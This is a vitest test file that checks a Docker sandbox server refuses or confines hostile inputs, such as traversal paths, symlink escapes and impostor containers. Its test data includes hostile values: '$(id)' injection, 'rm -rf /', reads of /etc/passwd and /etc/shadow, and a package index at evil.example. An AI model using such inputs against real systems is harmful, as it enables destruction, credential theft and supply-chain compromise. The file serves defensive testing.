import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { Labels } from '../../src/labels.js';
import { connectDocker } from '../../src/providers/docker/connect.js';
import { describeDocker, TEST_IMAGE } from '../helpers/docker-env.js';
import { TEST_NAMESPACE, testConfig } from '../helpers/test-config.js';
import { hostileSession } from './hostile-session.js';
import { errorCode, failure, invalidArgs, ok, type ToolInput, type ToolName } from '../helpers/tool-call.js';

const sha = (file: string) => createHash('sha256').update(readFileSync(file)).digest('hex');

describeDocker('hostile input: paths, identifiers and arguments stay inside or are refused', () => {
  const docker = connectDocker(process.env.DOCKER_HOST);
  let s: Awaited<ReturnType<typeof hostileSession>>;
  let id: string;
  const foreign: string[] = [];
  const hostFiles = ['/etc/passwd', '/etc/hostname'];
  const hostBefore = hostFiles.map(sha);

  beforeAll(async () => {
    s = await hostileSession(testConfig({ SANDBOX_MAX_UPLOAD_SIZE: '1048576' }));
    id = await s.sandbox();
  });

  afterAll(async () => {
    expect(hostFiles.map(sha)).toEqual(hostBefore);
    s?.assertNoSecretLeaked();
    await s?.close();
    for (const c of foreign)
      await docker
        .getContainer(c)
        .remove({ force: true })
        .catch(() => undefined);
  });

  const upload = (file_path: string, content = 'x', extra: Partial<ToolInput<'sandbox_upload'>> = {}) =>
    s.call('sandbox_upload', { sandbox_id: id, file_path, content, ...extra });
  const inSandbox = async (script: string) =>
    (await s.ok('sandbox_execute', { sandbox_id: id, language: 'bash', code: script })).output;

  it("resolves .. segments inside the sandbox, where the sandbox user's permissions apply", async () => {
    expect(errorCode(await upload('../../../../../../etc/passwd'))).toBe('PERMISSION_DENIED');
    expect(errorCode(await upload('/etc/shadow'))).toBe('PERMISSION_DENIED');
    const landed = await upload('a/../../user/b/../c.txt', 'inside');
    expect(ok(landed).file_path).toBe('/home/user/c.txt');
    expect(await inSandbox('cat /home/user/c.txt')).toBe('inside');
  });

  it('refuses NUL bytes, over-long names and paths, directories, and files over the size limit', async () => {
    expect(errorCode(await upload('a\u0000b'))).toBe('INVALID_ARGUMENT');
    expect(errorCode(await upload(`${'n'.repeat(300)}.txt`))).toBe('INVALID_ARGUMENT');
    expect(errorCode(await upload(`d/${'p/'.repeat(2100)}f`))).toBe('INVALID_ARGUMENT');
    expect(errorCode(await upload('/home/user/'))).toBe('INVALID_ARGUMENT');
    expect(errorCode(await upload('big.bin', Buffer.alloc(1048577).toString('base64'), { encoding: 'base64' }))).toBe(
      'INVALID_ARGUMENT',
    );
    expect(errorCode(await upload('bad.b64', '@@not base64@@', { encoding: 'base64' }))).toBe('INVALID_ARGUMENT');
  });

  it('follows symlinks planted in the sandbox only within the sandbox', async () => {
    await inSandbox('ln -sfn /etc etc-link; ln -sfn ../.. up; ln -sfn / root-link');
    expect(errorCode(await upload('etc-link/passwd'))).toBe('PERMISSION_DENIED');
    const viaParent = await upload('up/tmp/planted.txt', 'stays in the sandbox');
    expect(viaParent.isError).toBeFalsy();
    expect(await inSandbox('cat /tmp/planted.txt')).toBe('stays in the sandbox');
    expect(() => readFileSync('/tmp/planted.txt')).toThrow();
    expect(errorCode(await upload('root-link/etc/hostname'))).toBe('PERMISSION_DENIED');
  });

  it('sees and touches only what it labelled, even a container named like one of its own', async () => {
    const plain = await docker.createContainer({ Image: TEST_IMAGE, Cmd: ['sleep', 'infinity'] });
    await plain.start();
    foreign.push(plain.id);
    // A container that borrows our naming scheme but not our labels.
    const impostorId = 'sbx-aaaaaaaaaaaa';
    const impostor = await docker.createContainer({
      Image: TEST_IMAGE,
      Cmd: ['sleep', 'infinity'],
      name: `sandbox-mcp-${impostorId}`,
    });
    await impostor.start();
    foreign.push(impostor.id);

    const listed = (await s.ok('sandbox_list', {})).sandboxes.map((x) => x.sandbox_id);
    expect(listed).toContain(id);
    expect(listed).not.toContain(impostorId);
    expect(listed.every((x: string) => /^sbx-[a-z0-9]{12}$/.test(x))).toBe(true);
    for (const target of [
      plain.id,
      plain.id.slice(0, 12),
      impostorId,
      `sandbox-mcp-${impostorId}`,
      '--help',
      '-f',
      '$(id)',
    ]) {
      for (const tool of ['sandbox_status', 'sandbox_stop', 'sandbox_delete', 'sandbox_logs'] as const) {
        const r = await s.call(tool, { sandbox_id: target });
        expect(failure(r).code, `${tool} ${target}`).toBe('SANDBOX_NOT_FOUND');
      }
      const r = await s.call('sandbox_execute', { sandbox_id: target, code: 'true' });
      expect(errorCode(r)).toBe('SANDBOX_NOT_FOUND');
    }
    expect((await plain.inspect()).State.Running).toBe(true);
    expect((await impostor.inspect()).State.Running).toBe(true);
  });

  it('answers abusive arguments with INVALID_ARGUMENT before anything reaches the engine', async () => {
    const huge = 'x'.repeat(2 * 1024 * 1024);
    const cases: Array<[ToolName, Record<string, unknown>]> = [
      ['sandbox_create', { name: huge }],
      ['sandbox_create', { metadata: Object.fromEntries(Array.from({ length: 1000 }, (_, i) => [`k${i}`, 'v'])) }],
      ['sandbox_create', { env_vars: Object.fromEntries(Array.from({ length: 1000 }, (_, i) => [`V${i}`, 'v'])) }],
      ['sandbox_create', { cpus: -1 }],
      ['sandbox_create', { memory_mb: Number.MAX_SAFE_INTEGER }],
      ['sandbox_create', { timeout: 1e12 }],
      ['sandbox_create', { network: 'host' }],
      ['sandbox_create', { install_packages: ['--index-url=http://evil.example/simple'] }],
      ['sandbox_execute', { sandbox_id: id, code: huge }],
      ['sandbox_execute', { sandbox_id: id, code: 'print(1)', language: 'cobol' }],
      ['sandbox_execute', { sandbox_id: id, code: 'print(1)', timeout: 'soon' }],
      ['sandbox_execute', { sandbox_id: id, code: ['print(1)'] }],
      ['sandbox_execute', { sandbox_id: id }],
      ['sandbox_logs', { sandbox_id: id, lines: -5 }],
      ['sandbox_list', { limit: 10_000 }],
      ['sandbox_configure', { sandbox_id: id, run_commands: 'rm -rf /' }],
    ];
    // This file's containers only: other test files create theirs on the same engine meanwhile.
    const ours = async () =>
      (await docker.listContainers({ all: true, filters: { label: [`${Labels.namespace}=${TEST_NAMESPACE}`] } }))
        .length;
    const before = await ours();
    for (const [tool, args] of cases) {
      const r = await s.call(tool, invalidArgs(args));
      expect(errorCode(r), `${tool} ${JSON.stringify(args).slice(0, 80)}`).toBe('INVALID_ARGUMENT');
    }
    expect(await ours()).toBeLessThanOrEqual(before);
  });
});
